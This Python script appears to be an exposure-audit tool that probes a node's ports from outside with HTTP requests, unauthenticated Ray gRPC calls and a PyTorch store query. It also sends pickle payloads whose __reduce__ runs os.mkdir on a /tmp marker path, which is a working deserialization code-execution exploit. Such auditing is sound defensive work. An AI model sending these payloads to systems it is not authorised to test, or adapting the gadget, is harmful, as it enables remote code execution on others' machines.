"""Tries every port of a node from a machine that is none: run as `python outside_support.py HOST PORT...` there.

Prints {port: Answer} as JSON. Sends what strangers send (HTTP, calls of gRPC without a token, requests of PyTorch's
store), and pickles in the framings that libraries use, which make a file if anything unpickles them.
"""

import json
import os
import pickle
import socket
import struct
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import asdict, dataclass, field

import grpc

ANSWER_S = 3.0
AT_ONCE = 32
PLANTED = "/tmp/unpickled"
CALLS = (
    "/ray.rpc.NodeInfoGcsService/GetAllNodeInfo",
    "/ray.rpc.InternalKVGcsService/InternalKVKeys",
    "/ray.rpc.NodeManagerService/GetSystemConfig",
    "/ray.rpc.CoreWorkerService/GetCoreWorkerStats",
    "/ray.rpc.CoreWorkerService/PushTask",
    "/ray.rpc.ObjectManagerService/Pull",
    "/ray.rpc.ReporterService/ReportOCMetrics",
    "/ray.rpc.RayletDriver/ClusterInfo",
    "/ray.rpc.RayletDataStreamer/Datapath",
)
"""Calls of each service of Ray that listens somewhere: of the cluster's state, of nodes, workers, objects, reports, and
of `ray://` clients, whose messages are pickles. A service that a port does not have answers UNIMPLEMENTED."""
PATHS = ("/", "/metrics", "/api/local_raylet_healthz", "/nodes", "/api/healthz", "/logs/", "/api/jobs/")

STORE_ASKED = struct.pack("<BIB", 0, 0x3C85F7CE, 7)
"""What a client of PyTorch's store begins with, and the question how many keys there are (`TCPStoreBackend.hpp`)."""


@dataclass
class Answer:
    """What one port told a stranger."""

    reached: bool = False
    spoke_first: str = ""
    http: dict[str, str] = field(default_factory=dict)
    """The status line of each path that was answered."""
    grpc: dict[str, str] = field(default_factory=dict)
    """The code of each call that was answered."""
    store: str = ""
    """What PyTorch's store told."""


class Planted:
    def __init__(self, file: str) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self.file,)


def framings(port: int) -> Iterator[bytes]:
    for protocol in (2, 5):
        body = pickle.dumps(Planted(f"{PLANTED}-{port}-{protocol}"), protocol)
        yield body
        for form in ("<I", ">I", "<Q", ">Q"):
            yield struct.pack(form, len(body)) + body
        head = f"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: {len(body)}"
        yield head.encode() + b"\r\n\r\n" + body


def tell(host: str, port: int, sent: bytes) -> bytes:
    """Returns the first bytes that come back; none if nothing does in time."""
    with suppress(OSError), socket.create_connection((host, port), ANSWER_S) as sock:
        sock.settimeout(1.0)
        if sent:
            sock.sendall(sent)
        return sock.recv(200)
    return b""


def call(host: str, port: int, method: str) -> str:
    with grpc.insecure_channel(f"{host}:{port}", options=[("grpc.enable_http_proxy", 0)]) as channel:
        try:
            channel.unary_unary(method)(b"", timeout=ANSWER_S)
        except grpc.RpcError as error:
            return str(error.code().name)
        return "OK"


def store(host: str, port: int) -> str:
    """Returns what PyTorch's store says if it is asked how many keys it has; "" if it is none."""
    reply = tell(host, port, STORE_ASKED)
    return f"{int.from_bytes(reply, 'little')} keys" if len(reply) == 8 else ""


def attempt(host: str, port: int) -> Answer:
    try:
        socket.create_connection((host, port), ANSWER_S).close()
    except OSError:
        return Answer()
    answer = Answer(reached=True, spoke_first=tell(host, port, b"").hex())
    for path in PATHS:
        reply = tell(host, port, f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        if reply.startswith(b"HTTP/1"):
            answer.http[path] = reply.split(b"\r\n")[0].decode()
    for method in CALLS if not answer.http else ():
        code = call(host, port, method)
        if code in ("UNAVAILABLE", "DEADLINE_EXCEEDED"):
            break
        answer.grpc[method] = code
    if not answer.http and not answer.grpc:
        answer.store = store(host, port)
    for sent in framings(port):
        tell(host, port, sent)
    return answer


def main(host: str, *ports: str) -> None:
    with ThreadPoolExecutor(AT_ONCE) as threads:
        answers = threads.map(lambda port: attempt(host, int(port)), ports)
    print(json.dumps({port: asdict(answer) for port, answer in zip(ports, answers, strict=True)}))


if __name__ == "__main__":
    main(*sys.argv[1:])
